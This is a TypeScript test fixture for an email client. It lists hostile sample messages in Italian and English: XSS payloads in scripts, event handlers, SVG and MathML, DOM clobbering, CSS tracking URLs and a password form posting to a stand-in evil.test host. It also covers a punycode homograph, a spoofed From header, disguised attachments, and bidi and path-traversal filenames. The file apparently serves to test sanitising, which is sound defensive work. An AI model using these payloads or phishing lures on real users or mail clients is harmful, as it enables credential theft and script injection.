import { fileEntity, multipartEntity, textEntity } from '../mime.ts'
import type { Entity, Mailbox } from '../types.ts'

/** One attack, dressed as the spam or phishing that such mail is. Nothing in it may run, load or leave the reading frame. */
export type Attack = {
  key: string
  /** Most are in Junk; these ones got through. */
  inbox?: boolean
  daysAgo: number
  from: Mailbox
  subject: string
  html?: string
  body?: () => Entity
  /** The From field as it stands on the wire, where the attack is in it. */
  rawFrom?: string
}

const EVIL = 'https://evil.test'
const page = (body: string, head = '') =>
  `<!DOCTYPE html><html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`
export const htmlBody = (html: string) =>
  textEntity({ text: html, subtype: 'html', charset: 'utf-8', encoding: 'quoted-printable' })

const cidSvg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="parent.__pwned=1"><script>parent.__pwned=1</script>' +
  '<rect width="120" height="40" fill="#0a7"/></svg>'

export const attacks: Attack[] = [
  {
    ...{
      key: 'script',
      daysAgo: 3,
      from: { name: 'Premium Rewards', address: 'no-reply@premium-rewards.test' },
      subject: 'Claim your € 500 voucher',
    },
    html: page(
      '<h1>Loading your voucher…</h1><script>window.__pwned=1;parent.__pwned=1</script><p>If nothing happens, switch on scripts.</p>',
    ),
  },
  {
    ...{
      key: 'handlers',
      daysAgo: 4,
      from: { name: 'Fotoalbum', address: 'share@foto-album.test' },
      subject: 'Ti hanno taggata in 3 foto',
    },
    html: page(
      '<p>Guarda le foto:</p><img src=x onerror="parent.__pwned=1"><details open ontoggle="parent.__pwned=1"><summary>Foto 1</summary></details>' +
        '<a href="javascript:parent.__pwned=1">Apri album</a><video src="https://evil.test/v.mp4" onloadstart="parent.__pwned=1" autoplay></video>',
    ),
  },
  {
    ...{
      key: 'svg',
      daysAgo: 6,
      from: { name: 'Fax Online', address: 'fax@fax-online.test' },
      subject: 'Fax ricevuto: 2 pagine',
    },
    html: page(
      '<p>Anteprima del fax:</p><svg><animate onbegin="parent.__pwned=1" attributeName="x" dur="1s"/><a xlink:href="javascript:parent.__pwned=1">' +
        '<text x="10" y="20">Apri</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror="parent.__pwned=1"></style></mglyph></table></mtext></math>',
    ),
  },
  {
    ...{ key: 'form', inbox: true, daysAgo: 9, subject: 'La tua casella è quasi piena' },
    from: { name: 'Assistenza posta', address: 'helpdesk@mail-support.test' },
    html: page(
      '<p>Per continuare a ricevere messaggi conferma la password:</p>' +
        `<form action="${EVIL}/collect" method="post"><input name="user" placeholder="Indirizzo"><input type="password" name="pass" placeholder="Password">` +
        '<button>Conferma</button></form>',
    ),
  },
  {
    ...{
      key: 'refresh',
      daysAgo: 8,
      from: { name: 'Survey Prize', address: 'prize@survey-prize.test' },
      subject: 'You are visitor number 1,000,000',
    },
    html: page(
      '<p>One moment, we are taking you to your prize…</p>',
      `<meta http-equiv="refresh" content="0;url=${EVIL}/prize"><base href="${EVIL}/"><link rel="stylesheet" href="x.css"><link rel="prefetch" href="p">`,
    ),
  },
  {
    ...{
      key: 'base',
      daysAgo: 11,
      from: { name: 'Supporto Clienti', address: 'clienti@supporto-sicuro.test' },
      subject: 'Documento da firmare',
    },
    html: page(
      '<p>Il documento è pronto: <a href="account/sign">firma adesso</a>.</p><img src="logo.png">',
      `<base href="${EVIL}/login/">`,
    ),
  },
  {
    ...{
      key: 'css-urls',
      inbox: true,
      daysAgo: 13,
      from: { name: 'Moda Studio', address: 'news@moda-studio.test' },
      subject: 'Saldi riservati a te',
    },
    html: page(
      '<div class="hero">Saldi fino al 70%</div><div style="background:url(https://evil.test/t/inline.png)">Solo oggi</div>' +
        '<div style="background-image:image-set(\'https://evil.test/t/set.png\' 1x)">Solo qui</div><p style="list-style:url(https://evil.test/t/list.png)">Solo tu</p>',
      '<style>@import "https://evil.test/t/import.css";@font-face{font-family:x;src:url(https://evil.test/t/font.woff2)}.hero{--u:url(https://evil.test/t/var.png);' +
        'background:var(--u);font-family:x}input[value^="a"]{background:url(https://evil.test/t/a)}body{cursor:u\\r\\l(https://evil.test/t/esc.png),auto}</style>',
    ),
  },
  {
    ...{
      key: 'overlay',
      daysAgo: 14,
      from: { name: 'System', address: 'system@session-expired.test' },
      subject: 'Session expired',
    },
    html: page(
      '<div style="position:fixed!important;inset:0;z-index:2147483647;background:#fff;padding:20vh 30vw"><h2>Your session has expired</h2>' +
        `<a href="${EVIL}/signin" style="background:#0067b8;color:#fff;padding:8px 20px">Sign in again</a></div>`,
    ),
  },
  {
    ...{ key: 'mismatch', inbox: true, daysAgo: 16, subject: 'Avviso: accesso non riconosciuto' },
    from: { name: 'Banca Alpina', address: 'sicurezza@bancaalpina-verifica.test' },
    html: page(
      '<p>Gentile cliente, abbiamo rilevato un accesso da Samarcanda. Se non è stata Lei, verifichi subito:</p>' +
        `<p><a href="${EVIL}/alpina/login">https://www.bancaalpina.example/area-clienti</a></p><p>Banca Alpina</p>`,
    ),
  },
  {
    // The second letter of the domain is a Cyrillic "а", in its ASCII form as it has to be in a header.
    ...{ key: 'homograph', daysAgo: 18, subject: 'Conferma il tuo numero di telefono' },
    from: { name: 'Вanca Аlpina', address: 'avvisi@xn--bncalpina-0yh.test' },
    html: page(
      '<p>Per motivi di sicurezza confermi il Suo numero: <a href="https://xn--bncalpina-0yh.test/tel">bаncalpina.test</a></p>',
    ),
  },
  {
    ...{
      key: 'two-senders',
      daysAgo: 21,
      from: { name: 'Marco Bellini', address: 'ceo@urgent-wire.test' },
      subject: 'Bonifico urgente, sono in riunione',
    },
    rawFrom:
      '"marco@bellini-ingegneria.example" <ceo@urgent-wire.test>, Marco Bellini <marco@bellini-ingegneria.example>',
    body: () =>
      textEntity({
        text: 'Ciao, ho bisogno di un bonifico entro le 12. Non chiamarmi, sono in riunione. Rispondi qui e ti mando l’IBAN.\n\nMarco',
      }),
  },
  {
    ...{
      key: 'cid-svg',
      daysAgo: 23,
      from: { name: 'Fatture Online', address: 'fatture@fatture-online.test' },
      subject: 'Fattura insoluta 77/B',
    },
    body: () =>
      multipartEntity({
        subtype: 'related',
        parts: [
          htmlBody(
            page(
              '<p>Fattura in sospeso:</p><img src="cid:bill@fatture-online.test" width="120"><object data="cid:bill@fatture-online.test"></object><iframe src="cid:bill@fatture-online.test"></iframe>',
            ),
          ),
          fileEntity({
            content: Buffer.from(cidSvg),
            type: 'image/svg+xml',
            filename: 'bill.svg',
            contentId: 'bill@fatture-online.test',
            disposition: 'inline',
          }),
        ],
      }),
  },
  {
    ...{
      key: 'html-as-png',
      inbox: true,
      daysAgo: 26,
      from: { name: 'Scanner Ufficio', address: 'scanner@office-scan.test' },
      subject: 'Scansione del documento',
    },
    body: () =>
      multipartEntity({
        subtype: 'mixed',
        parts: [
          textEntity({ text: 'Documento acquisito dallo scanner. Vedi allegato.' }),
          fileEntity({
            content: Buffer.from(
              page('<script>parent.__pwned=1;opener&&(opener.__pwned=1)</script><h1>scan</h1>'),
            ),
            type: 'image/png',
            filename: 'a.png',
          }),
        ],
      }),
  },
  {
    ...{
      key: 'bidi-name',
      daysAgo: 29,
      from: { name: 'Ufficio Personale', address: 'hr@staff-office.test' },
      subject: 'Aggiornamento stipendi',
    },
    body: () =>
      multipartEntity({
        subtype: 'mixed',
        parts: [
          textEntity({ text: 'In allegato la tabella riservata. Aprire solo dal computer.' }),
          fileEntity({
            content: Buffer.from('MZ this is not a program, only named like one'),
            type: 'application/octet-stream',
            filename: 'stipendi\u202Efdp.exe',
          }),
          fileEntity({
            content: Buffer.from('nothing'),
            type: 'application/octet-stream',
            filename: '..\\..\\AppData\\run.bat',
          }),
        ],
      }),
  },
  {
    ...{
      key: 'header-markup',
      daysAgo: 31,
      subject: '<img src=x onerror="parent.__pwned=1"> {{constructor.constructor("parent.__pwned=1")()}}',
    },
    from: { name: '<script>parent.__pwned=1</script>', address: 'x@markup.test' },
    body: () =>
      textEntity({
        text: 'http://a.test/"onmouseover="parent.__pwned=1 <img/src="x"/onerror=parent.__pwned=1>\n{{7*7}} ${7*7} <b>plain text</b>',
      }),
  },
  {
    ...{
      key: 'clobber',
      daysAgo: 34,
      from: { name: 'Newsletter', address: 'n@weekly-deals.test' },
      subject: 'Offerte della settimana',
    },
    html: page(
      '<form id="app"><input name="body"><input name="cookie"><input name="getElementById"></form><a id="__proto__" name="location" href="https://evil.test/c">Offerte</a>' +
        '<noscript><p title="</noscript><img src=x onerror=parent.__pwned=1>"></noscript><img src="https://evil.test/q?',
    ),
  },
]
